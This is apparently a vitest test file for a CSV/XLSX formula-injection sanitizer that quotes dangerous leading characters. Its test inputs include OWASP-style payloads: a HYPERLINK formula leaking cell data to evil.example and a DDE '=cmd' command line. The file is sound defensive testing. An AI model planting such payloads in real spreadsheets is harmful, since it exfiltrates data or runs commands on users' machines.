import { describe, expect, it } from 'vitest';
import { stringify } from 'csv-stringify/sync';
import { parse } from 'csv-parse/sync';
import { csvStringCast, neutralizeFormula, spreadsheetCell } from '../../src/api/spreadsheet-safe.js';

describe('the spreadsheet formula rule', () => {
  // OWASP's CSV Injection list and ASVS 1.2.10: each of these first characters starts a formula (or hides one).
  const formulas = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
    "=cmd|' /C calc'!A0",
    '+1+2',
    '-2+3',
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
    '\u0000=1+1',
    '=',
  ];

  it.each(formulas)('puts a single quote before %j', (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it.each(['中共测试镇东风村支部委员会', '张伟', '2027-03-01', '13800000000', 'a=b', ' =1', "'=already quoted", '', '1-2'])('leaves %j as it is', (text) =>
    expect(neutralizeFormula(text)).toBe(text),
  );

  it('keeps numbers, negative ones included, booleans, dates and empty cells as they are for XLSX', () => {
    const day = new Date('2027-03-01T00:00:00Z');
    expect(spreadsheetCell(-3)).toBe(-3);
    expect(spreadsheetCell(-0.5)).toBe(-0.5);
    expect(spreadsheetCell(42)).toBe(42);
    expect(spreadsheetCell(true)).toBe(true);
    expect(spreadsheetCell(day)).toBe(day);
    expect(spreadsheetCell(null)).toBeNull();
    expect(spreadsheetCell(undefined)).toBeNull();
    expect(spreadsheetCell('-3')).toBe("'-3");
  });

  it('never hands ExcelJS an object it would write as a formula or a link', () => {
    for (const v of [{ formula: 'A1*2', result: 7 }, { sharedFormula: 'A1' }, { text: 'x', hyperlink: 'http://evil.example' }, { richText: [] }, ['=1+1']]) {
      expect(typeof spreadsheetCell(v)).toBe('string');
      expect(spreadsheetCell(v)).toBe(JSON.stringify(v));
    }
  });

  it('is what csv-stringify writes for every text field, and numbers stay numbers', () => {
    const rows = [{ name: '=1+1', secretary: '@x', count: -3, plain: '张伟' }];
    const text = stringify(rows, { header: true, columns: ['name', 'secretary', 'count', 'plain'], cast: csvStringCast });
    expect(parse(text, { columns: true })).toEqual([{ name: "'=1+1", secretary: "'@x", count: '-3', plain: '张伟' }]);
  });
});
